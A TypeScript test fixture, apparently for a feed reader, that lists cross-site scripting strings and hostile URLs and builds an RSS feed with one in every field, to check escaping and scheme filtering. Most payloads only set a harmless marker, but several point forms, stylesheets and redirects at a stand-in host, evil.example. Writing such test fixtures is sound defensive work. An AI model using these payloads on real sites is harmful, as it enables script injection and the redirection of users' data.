/** Texts and addresses that would run as script on a page that forgets to escape or to look at schemes. */

export const hostileTexts = [
  '<script>window.pwned=1</script>',
  '"><img src=x onerror="window.pwned=1">',
  "'><svg onload=window.pwned=1>",
  '</title><script>window.pwned=1</script>',
  '</script><script>window.pwned=1</script>',
  '<!--<script>window.pwned=1</script>-->',
  ']]><script>window.pwned=1</script>',
  '" autofocus onfocus="window.pwned=1" x="',
  "' onmouseover='window.pwned=1",
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">klicka</a>',
  '<style>@import url(//evil.example/x.css)</style>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=q autofocus></form>',
  '{{constructor.constructor("window.pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as text it must stay text
  '${window.pwned=1}',
  '\u2028window.pwned=1\u2029',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
]

export const hostileAddresses = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1',
  ' java\nscript:window.pwned=1',
  'data:text/html,<script>parent.pwned=1</script>',
  'vbscript:window.pwned=1',
  '//evil.example/"onmouseover="window.pwned=1',
  'https://a.example/"><script>window.pwned=1</script>',
]

const xml = (text: string) =>
  text.replace(/[&<>"]/g, (char) => `&#${char.charCodeAt(0)};`).replace(/[\u2028\u2029]/g, '')

/** A feed whose every field is hostile, once as plain text and once as markup that a reader would decode. */
export function hostileFeed(origin: string): string {
  const items = hostileTexts.flatMap((text, i) => [item(origin, text, `${i}a`), item(origin, xml(text), `${i}b`)])
  const links = hostileAddresses.map((address, i) => linked(address, i))
  return `<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"><channel><title>${xml(hostileTexts[1] ?? '')}</title><link>javascript:window.pwned=1</link><description>${xml(hostileTexts[0] ?? '')}</description>${items.join('')}${links.join('')}</channel></rss>`
}

const item = (origin: string, text: string, id: string) =>
  `<item><guid isPermaLink="false">${id}</guid><link>${origin}/${id}</link><title>Iphone ${id} ${xml(text)}</title><description>${xml(text)} Iphone</description><dc:creator>${xml(text)}</dc:creator><category>${xml(text)}</category></item>`

const linked = (address: string, i: number) =>
  `<item><guid isPermaLink="false">l${i}</guid><link>${xml(address)}</link><title>Iphone länk ${i}</title><description>Iphone</description><media:content url="${xml(address)}" medium="image"/></item>`
